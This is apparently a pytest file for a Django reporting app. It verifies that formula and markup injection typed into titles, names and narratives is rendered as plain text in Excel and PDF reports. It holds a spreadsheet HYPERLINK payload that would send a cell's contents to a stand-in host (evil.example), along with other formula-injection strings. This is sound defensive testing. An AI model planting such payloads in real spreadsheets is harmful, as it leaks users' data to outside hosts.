"""Report files carry what people typed as text: a formula in a title, narrative or name
is a string cell in every report workbook (never a formula), and markup in a title is
printed as typed in the PDF (which still builds). Checked on the demo data, with the
texts changed in place, through the same generation the Celery task runs."""

import re

import pytest

from donors.models import FundingAgreement
from organisations.models import Organisation
from projects.models import Indicator
from tests.reports.conftest import MONTH, pdf_text, workbook
from tests.reports.services_support import _generate
from workplans.models import Activity, ProgressUpdate, Workplan

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
MARKUP_TITLE = "Mentoring <b>CTD Sindh investigators"


OWN_TOTAL = re.compile(r"=SUM\([A-Z]+[0-9]+(:[A-Z]+[0-9]+)?(,[A-Z]+[0-9]+(:[A-Z]+[0-9]+)?)*\)")


def formula_cells(book) -> list[str]:
    """Formula cells other than the report's own totals (SUMs over cell references in
    bold total rows)."""
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and not (OWN_TOTAL.fullmatch(cell.value) and cell.font.bold)
    ]


def text_cells(book, text: str) -> list:
    """Every cell whose value starts with `text`; each must be a quote-prefixed string."""
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(text):
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
                    found.append(cell)
    return found


def test_progress_report_keeps_formulas_as_text_and_prints_markup_as_typed(users):
    workplan = Workplan.objects.get()
    workplan.title = "Sindh & Punjab <CT> workplan"
    workplan.save(update_fields=["title"])
    # Texts of an approved (frozen) version, changed in place as an old row could hold them.
    activities = Activity.objects.filter(version__workplan=workplan, version__status="approved")
    activities.filter(code="A1").update(title=HYPERLINK)
    activities.filter(code="A3").update(title=MARKUP_TITLE)
    ProgressUpdate.objects.filter(
        activity__in=activities.filter(code="A3"), state="verified"
    ).update(narrative="+1+1 cohorts <i>trained", challenges="-2+3 & <unclosed")
    Indicator.objects.filter(code="I1.1a").update(title="@SUM(A1)")

    report = _generate(kind="progress", workplan=workplan, quarter=4, user=users["manager"])

    book = workbook(report)
    assert formula_cells(book) == []
    for text in (HYPERLINK, "+1+1 cohorts", "-2+3 & <unclosed", "@SUM(A1)"):
        assert text_cells(book, text), text
    # The Activities and Narratives sheets.
    assert [c.value for c in text_cells(book, HYPERLINK)] == [HYPERLINK] * 2

    text = pdf_text(report)
    assert MARKUP_TITLE in text
    assert "Sindh & Punjab <CT> workplan" in text
    assert "+1+1 cohorts <i>trained" in text
    assert "-2+3 & <unclosed" in text


def test_disbursement_report_keeps_formulas_as_text_and_prints_markup_as_typed(users):
    gac = Organisation.objects.get(short_name="GAC")
    gac.name = "Global Affairs <Canada> & partners"
    gac.save(update_fields=["name"])
    FundingAgreement.objects.filter(reference="GAC-UNODC-SP4").update(
        reference="+1+1<b>", title=HYPERLINK
    )

    for donor in (gac, None):
        report = _generate(kind="disbursement", donor=donor, month=MONTH, user=users["manager"])
        book = workbook(report)
        assert formula_cells(book) == []
        assert text_cells(book, HYPERLINK)
        assert text_cells(book, "+1+1<b>")
        text = pdf_text(report)
        assert "+1+1<b>" in text

    assert "Global Affairs <Canada> & partners" in pdf_text(
        _generate(kind="disbursement", donor=gac, month=MONTH, user=users["manager"])
    )


def test_progress_report_builds_with_control_characters_in_a_narrative(users):
    workplan = Workplan.objects.get()
    activities = Activity.objects.filter(version__workplan=workplan, version__status="approved")
    ProgressUpdate.objects.filter(
        activity__in=activities.filter(code="A3"), state="verified"
    ).update(narrative="Pasted\x0bfrom\x0cWord")

    report = _generate(kind="progress", workplan=workplan, quarter=4, user=users["manager"])

    assert report.status == "done", report.failure_reason
    assert any(
        cell.value == "Pasted from Word"
        for sheet in workbook(report).worksheets
        for row in sheet.iter_rows()
        for cell in row
    )
